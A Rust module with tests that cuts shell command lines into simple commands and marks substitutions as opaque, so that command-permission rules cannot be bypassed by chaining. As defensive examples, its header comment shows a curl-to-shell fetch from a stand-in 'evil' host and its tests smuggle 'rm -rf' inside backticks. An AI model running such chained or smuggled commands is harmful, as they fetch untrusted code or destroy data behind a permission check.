//! A shell command cut into the simple commands it runs, so a rule about `git push` is not
//! dodged by `cd repo && git push` and `Bash(cargo test*)` does not allow
//! `cargo test; curl evil | sh`. It is not a shell parser: it cuts at the control
//! operators (`;`, `&`, `|`, `&&`, `||`, newlines) outside quotes, and reports whether the
//! command substitutes or groups anything (`$(…)`, backticks, `<(…)`, parentheses), which a
//! pattern cannot vouch for.

/// What a command line is made of.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Commands {
    /// The simple commands, trimmed, without leading `NAME=value` assignments.
    pub(crate) parts: Vec<String>,
    /// Text a deny or ask rule is also held against: the parts, and each substitution's or
    /// group's inside, cut the same way.
    pub(crate) nested: Vec<String>,
    /// The line substitutes or groups something: only a bare `Bash` rule can allow it.
    pub(crate) opaque: bool,
}

/// Cuts `command` into its simple commands.
pub(crate) fn commands(command: &str) -> Commands {
    let mut parts = Vec::new();
    let mut opaque = false;
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match (quote, c) {
            (Some('\''), '\'') => {
                quote = None;
                current.push(c);
            }
            (Some('\''), _) => current.push(c),
            (_, '\\') => {
                current.push(c);
                if let Some(next) = chars.next() {
                    current.push(next);
                }
            }
            (Some('"'), '"') => {
                quote = None;
                current.push(c);
            }
            (Some('"'), '`') => {
                opaque = true;
                current.push(c);
            }
            (Some('"'), '$') if chars.peek() == Some(&'(') => {
                opaque = true;
                current.push(c);
            }
            (Some(_), _) => current.push(c),
            (None, '\'' | '"') => {
                quote = Some(c);
                current.push(c);
            }
            // `2>&1`, `>&2`, `&>file`: redirections, not control operators.
            (None, '&') if current.ends_with(['>', '<']) || chars.peek() == Some(&'>') => {
                current.push(c);
            }
            (None, ';' | '&' | '|' | '\n') => {
                parts.push(std::mem::take(&mut current));
            }
            (None, '(' | ')' | '`' | '{' | '}') => {
                opaque = true;
                parts.push(std::mem::take(&mut current));
            }
            (None, _) => current.push(c),
        }
    }
    parts.push(current);
    let parts: Vec<String> = parts
        .iter()
        .map(|part| strip_assignments(part.trim()).to_owned())
        .filter(|part| !part.is_empty())
        .collect();
    let mut nested = parts.clone();
    if opaque {
        // Substitutions inside double quotes: cut the whole line again at every bracket and
        // quote, so `echo "$(git push)"` is held against a rule about `git push`.
        nested.extend(
            command
                .split(['(', ')', '`', '"', '\'', ';', '&', '|', '\n', '{', '}'])
                .map(|piece| strip_assignments(piece.trim().trim_start_matches('$').trim()))
                .filter(|piece| !piece.is_empty())
                .map(str::to_owned),
        );
    }
    Commands {
        parts,
        nested,
        opaque,
    }
}

/// `FOO=1 BAR=2 git push` → `git push`.
fn strip_assignments(mut part: &str) -> &str {
    loop {
        let word_end = part.find(char::is_whitespace).unwrap_or(part.len());
        let word = &part[..word_end];
        let is_assignment = word.split_once('=').is_some_and(|(name, _)| {
            !name.is_empty()
                && !name.starts_with(|c: char| c.is_ascii_digit())
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
        if !is_assignment || word_end == part.len() {
            return part;
        }
        part = part[word_end..].trim_start();
    }
}

#[cfg(test)]
mod tests {
    use super::commands;

    #[test]
    fn control_operators_cut_outside_quotes_only() {
        let cut = commands("cd repo && git push origin main; echo 'a;b' | wc -l");
        assert_eq!(
            cut.parts,
            ["cd repo", "git push origin main", "echo 'a;b'", "wc -l"]
        );
        assert!(!cut.opaque);
        assert_eq!(commands("A=1 B=x git push").parts, ["git push"]);
        assert_eq!(commands("X=1").parts, ["X=1"]);
        assert_eq!(commands("echo \"a && b\"").parts, ["echo \"a && b\""]);
        assert_eq!(
            commands("cargo test 2>&1 | tail -5 &> log").parts,
            ["cargo test 2>&1", "tail -5 &> log"]
        );
        assert_eq!(commands("a & b").parts, ["a", "b"]);
    }

    #[test]
    fn substitutions_are_opaque_and_their_insides_are_held_against_deny() {
        let cut = commands("echo \"$(git push --force)\"");
        assert!(cut.opaque);
        assert!(
            cut.nested.iter().any(|n| n == "git push --force"),
            "{cut:?}"
        );
        let cut = commands("ls `rm -rf x`");
        assert!(cut.opaque);
        assert!(cut.nested.iter().any(|n| n == "rm -rf x"), "{cut:?}");
        assert!(
            commands("(git push)")
                .nested
                .iter()
                .any(|n| n == "git push")
        );
    }
}
